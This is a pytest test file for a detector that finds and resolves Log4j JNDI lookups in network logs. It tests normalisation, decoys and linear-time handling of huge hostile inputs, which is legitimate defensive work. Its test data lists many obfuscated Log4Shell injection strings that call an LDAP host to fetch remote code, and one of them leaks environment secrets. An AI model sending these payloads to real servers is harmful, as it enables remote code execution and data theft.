"""Lookups are found whatever disguises them, resolved as Log4j does, in linear time."""

from __future__ import annotations

import base64
import time
from typing import Any

import pytest

from suricata_eve.analysis.jndi import find_lookups, resolve

PLAIN = "${jndi:ldap://192.0.2.66:1389/Basic/Command/Base64/QUJDZA==}"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "written",
    [
        PLAIN,
        "${JnDi:LDAP://192.0.2.66:1389/Basic/Command/Base64/QUJDZA==}",
        PLAIN.replace("jndi:ldap", "${lower:j}ndi:${lower:l}${lower:d}a${lower:p}"),
        PLAIN.replace("jndi:ldap", "${lower:JNDI}:${lower:LDAP}"),
        PLAIN.replace("jndi:ldap", "${lower:${lower:jndi}}:${lower:ldap}"),
        PLAIN.replace("jndi:ldap", "${upper:jndi}:${upper:ldap}"),
        PLAIN.replace("jndi", "jnd${upper:\u0131}"),
        PLAIN.replace("jndi", "jnd${lower:${upper:\u0131}}"),
        PLAIN.replace("jndi", "jnd${upper:\\u0131}"),
        PLAIN.replace("jndi", "jnd${upper:%C4%B1}"),
        PLAIN.replace("jndi:ldap", "${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}"),
        PLAIN.replace("jndi:ldap", "${:-j}ndi${:-:}ldap"),
        PLAIN.replace("jndi:ldap:", "${env:X:-j}ndi${env:X:-:}${env:X:-l}dap${env:X:-:}"),
        PLAIN.replace("jndi:ldap", "j${k8s:k5:-ND}i${sd:k5:-:}ldap"),
        PLAIN.replace("jndi", "${sys:nope:-j}${main:a:b:-n}${whatever you like:-d}i"),
        PLAIN.replace("jndi", "${date:'j'}${date:'nd'}${date:'i'}"),
        PLAIN.replace("jndi", "${base64:am5kaQ==}"),
        PLAIN.replace("jndi", "${base64:am5kaQ}"),
        PLAIN.replace("jndi", "${${lower:low}${lower:er}:JNDI}"),
        PLAIN.replace("jndi", "${::-${::-$${::-j}}}ndi"),
        PLAIN.replace("//", "${::-/}${::-/}"),
        PLAIN.replace("192.0.2.66", "${::-192}.0.2.${lower:66}"),
        PLAIN.replace("1389", "13${env:PORT:-89}"),
        PLAIN.replace("${", "%24%7B").replace("}", "%7D"),
        PLAIN.replace("${", "%2524%257b").replace("}", "%257d"),
        "".join(f"%{ord(character):02x}" for character in PLAIN),
        "".join(f"\\u{ord(character):04x}" for character in PLAIN),
        PLAIN.replace("/", "\\/"),
        "$" + PLAIN,
        "${base64:" + b64(PLAIN) + "}",
        "${lower:" + PLAIN + "}",
        "${env:A:-" + PLAIN + "}",
    ],
)
def test_a_disguised_lookup_is_the_plain_lookup(written: str) -> None:
    found = find_lookups(f"/?a=b&x={written}&y=1")

    assert [lookup.resolved for lookup in found] == [PLAIN]
    assert [(x.scheme, x.host, x.port) for x in found] == [("ldap", "192.0.2.66", 1389)]


def test_match_and_place_are_those_of_the_text_as_sent() -> None:
    written = "%24%7bjnd${upper:\u0131}:ldap://h/\u00e9%7d"
    text = f"\u20ac {written} {{}}"
    (found,) = find_lookups(text)

    assert found.match == written
    assert text.encode()[found.start : found.end].decode() == written
    assert found.path == "\u00e9"


def test_the_case_of_a_payload_is_not_changed() -> None:
    (found,) = find_lookups("${${lower:JNDI}:${lower:LDAP}://H.Example/Base64/AbCd=}")

    assert (found.scheme, found.host, found.path) == ("ldap", "H.Example", "Base64/AbCd=")


def test_several_lookups_come_in_order() -> None:
    text = "${jndi:ldap://a/1} ${jndi:rmi://b/2} {} ${x} ${jndi:dns://c} ${jndi:ldap://d/cut"

    assert [lookup.host for lookup in find_lookups(text)] == ["a", "b", "c", "d"]


def test_a_lookup_inside_a_lookup_is_found_too() -> None:
    hosts = [x.host for x in find_lookups("${jndi:ldap://outer/${jndi:dns://inner/a}}")]

    assert hosts == ["outer", "inner"]


@pytest.mark.parametrize(
    ("text", "match", "resolved"),
    [
        ("GET /${jndi:ldap://h/Base64/QUJ HTTP/1.1", *["${jndi:ldap://h/Base64/QUJ"] * 2),
        ("${${lower:j}ndi:ldap://h/a", "${${lower:j}ndi:ldap://h/a", "${jndi:ldap://h/a"),
        ('{"a":"${jndi:ldap://h/a"}', *["${jndi:ldap://h/a"] * 2),
        ("${jndi:ldap://h/a\r\nCookie: {b}", *["${jndi:ldap://h/a"] * 2),
        (
            "${jndi:ldap://h/${env:SECRET",
            "${jndi:ldap://h/${env:SECRET",
            "${jndi:ldap://h/${env:SECRET",
        ),
    ],
)
def test_a_lookup_that_is_cut_off_is_found(text: str, match: str, resolved: str) -> None:
    (found,) = find_lookups(text)

    assert (found.match, found.resolved, found.host) == (match, resolved, "h")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "jndi:ldap://h/a",
        "/page?jndi=ldap&mode=test",
        "/?q=${user.name}&tpl=${lower}",
        "${jndi:ldap://}",
        "${jndi:ldap://...}",
        "${jndi:ldap:///a}",
        "https://www.google.com/search?q=%24%7Bjndi%3Aldap%3A%2F%2F+what+is+it",
        "${jndi:java:comp/env}",
        "${jndi:}",
        "${ jndi:ldap://h/a}",
        "${j${env:UNKNOWN}ndi:ldap://h/a}",
        "${jnd\u0131:ldap://h/a}",
        "}}}${{{",
    ],
)
def test_what_is_no_lookup_of_a_host_is_not_found(text: str) -> None:
    assert find_lookups(text) == []


@pytest.mark.parametrize(
    ("text", "resolved"),
    [
        ("no lookup", "no lookup"),
        ("${env:HOME} ${hostName}", "${env:HOME} ${hostName}"),
        ("${lower:${hostName}A}", "${hostName}A"),
        ("${lower:}|${lower:ABC:-no}|${::-}", "|abc|"),
        ("${date:yyyy}${date:''}${date:'a''b'}", "${date:yyyy}'ab"),
        ("${base64:!!}${base64:!!:-x}", "${base64:!!}x"),
        ("${upper:\u00df\u0131\u017f} ${lower:\u212a\u0130}", "SSIS ki\u0307"),
        ("a ${ b ${::-c}", "a ${ b c"),
        ("a } b", "a } b"),
    ],
)
def test_resolve_leaves_what_only_the_victim_knows(text: str, resolved: str) -> None:
    assert resolve(text) == resolved


def test_base64_in_base64_is_followed_three_layers() -> None:
    text = PLAIN
    for _ in range(3):
        text = "${base64:" + b64(text) + "}"

    assert [x.resolved for x in find_lookups(text)] == [PLAIN]
    assert find_lookups("${base64:" + b64("${base64:" + b64(text) + "}") + "}") == []


def test_padding_does_not_hide_a_lookup() -> None:
    text = "${" * 100_000 + "${jndi:ldap://h/" + "a" * 100_000 + "}" + "}" * 100_000

    assert [(x.host, x.resolved[-1]) for x in find_lookups(text)] == [("h", "a")]


MEGABYTE = 1_000_000
HOSTILE = {
    "open": "${" * (MEGABYTE // 2),
    "empty": "${}" * (MEGABYTE // 3),
    "lower": "${lower:" * (MEGABYTE // 8),
    "closed lower": "${lower:" * (MEGABYTE // 9) + "}" * (MEGABYTE // 9),
    "default": "${::-" * (MEGABYTE // 5),
    "deep defaults": "${::-" * 128 + "a" * MEGABYTE + "}" * 128,
    "escaped percents": "%2525" * (MEGABYTE // 5),
    "escaped openings": "%24%7b" * (MEGABYTE // 6),
    "cut lookups": "${jndi:ldap://h/" * (MEGABYTE // 16),
    "nested lookups": "${jndi:ldap://h/" * (MEGABYTE // 17) + "}" * (MEGABYTE // 17),
    "host": "${jndi:ldap://" + "a" * MEGABYTE + "}",
    "many parts": "${jndi:ldap://" + "${a}." * (MEGABYTE // 5) + "/x}",
    "marks": "${jndi:ldap://" + "#" * MEGABYTE + "}",
    "base64": "${base64:" + b64("${::-x}" * (MEGABYTE // 10)) + "}",
    "many base64": "${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}" * (MEGABYTE // 34),
    "growth": "${upper:" * 128 + "\u0390" * (MEGABYTE // 2) + "}" * 128,
    "date": "${date:'" + "'" * MEGABYTE + "}",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_megabyte_of_hostile_text_ends_at_once(text: str) -> None:
    start = time.perf_counter()
    found = find_lookups(text)

    # Half a second on a slow machine; anything quadratic takes minutes.
    assert time.perf_counter() - start < 8
    assert len(found) <= 1_000


def test_all_planted_lookups_are_resolved_as_the_truth_says(truth: dict[str, Any]) -> None:
    planted = [field for flow in truth["log4j_flows"] for field in flow["fields"]]
    # The one in HTTP basic credentials is in Base64, which this function does not look into.
    planted = [field for field in planted if "basic" not in field["value_encoding"]]

    assert len(planted) == 103
    for field in planted:
        wanted = [(field["scheme"], field["callback_host"], field["callback_port"], field["path"])]
        found = [x for x in find_lookups(field["value"]) if x.resolved == field["normalized"]]
        assert [(x.scheme, x.host, x.port, x.path) for x in found] == wanted


def test_decoys_hold_no_lookup(truth: dict[str, Any]) -> None:
    texts = [decoy["url"] for decoy in truth["decoys"]]
    texts += [header["value"] for decoy in truth["decoys"] for header in decoy["headers"]]

    assert [text for text in texts if find_lookups(text)] == []
